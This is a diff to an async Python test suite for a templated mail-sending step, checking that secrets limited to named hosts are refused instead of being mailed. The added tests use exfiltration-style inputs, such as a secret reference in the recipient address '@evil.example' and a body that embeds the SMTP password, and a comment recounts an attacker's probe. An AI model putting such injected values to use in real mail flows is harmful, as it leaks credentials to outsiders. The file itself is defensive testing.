@@ -507,7 +507,7 @@ async def test_starttls_required_but_not_offered_is_refused(
 async def test_data_stays_inert_and_definition_secrets_resolve(
     mailbox: LocalMailbox, tenant_settings: dict[str, Any]
 ) -> None:
-    tenant_settings["default"] = settings(mailbox, CODE=Secret("s3cr3t-code-4411", ("127.0.0.1",)))
+    tenant_settings["default"] = settings(mailbox, CODE=Secret("s3cr3t-code-4411"))
     # What data becomes when it enters a run (escaped), next to a reference the author wrote.
     data = {"to": "a@b.example", "subject": "s", "text": "data: $${secret:CODE} / author: ${secret:CODE}"}
     result = await send(data)
@@ -515,9 +515,20 @@ async def test_data_stays_inert_and_definition_secrets_resolve(
     assert mail.part("text/plain") == "data: ${secret:CODE} / author: s3cr3t-code-4411\n"
     assert "s3cr3t-code-4411" not in str(result.output)
 
-    tenant_settings["default"]["CODE"] = Secret("s3cr3t-code-4411", ("smtp.elsewhere.example",))
-    error = await send_error(data)
+    # A secret that names the hosts it may go to is never mailed, even one that names the SMTP
+    # server: the message goes on to its recipients (an attacker's probe mailed the SMTP password
+    # and a CRM token, both allowed to the SMTP host, to any address).
+    for hosts in (("smtp.elsewhere.example",), ("127.0.0.1",)):
+        tenant_settings["default"]["CODE"] = Secret("s3cr3t-code-4411", hosts)
+        for field, value in (("text", "${secret:CODE}"), ("to", "${secret:CODE}@evil.example")):
+            error = await send_error({**data, field: value})
+            assert (error.type, error.non_retryable) == ("SecretHostRefused", True)
+            assert "secret 'CODE' may be sent only to" in error.message
+            assert "s3cr3t-code-4411" not in error.message
+    tenant_settings["default"]["SMTP_PASSWORD"] = Secret(PASSWORD, ("127.0.0.1",))
+    error = await send_error({**data, "text": "pw=${secret:SMTP_PASSWORD}"})
     assert error.type == "SecretHostRefused"
+    assert len(mailbox.received) == 1  # only the first message
 
 
 async def test_a_server_that_does_not_answer_is_a_retryable_timeout(tenant_settings: dict[str, Any]) -> None:
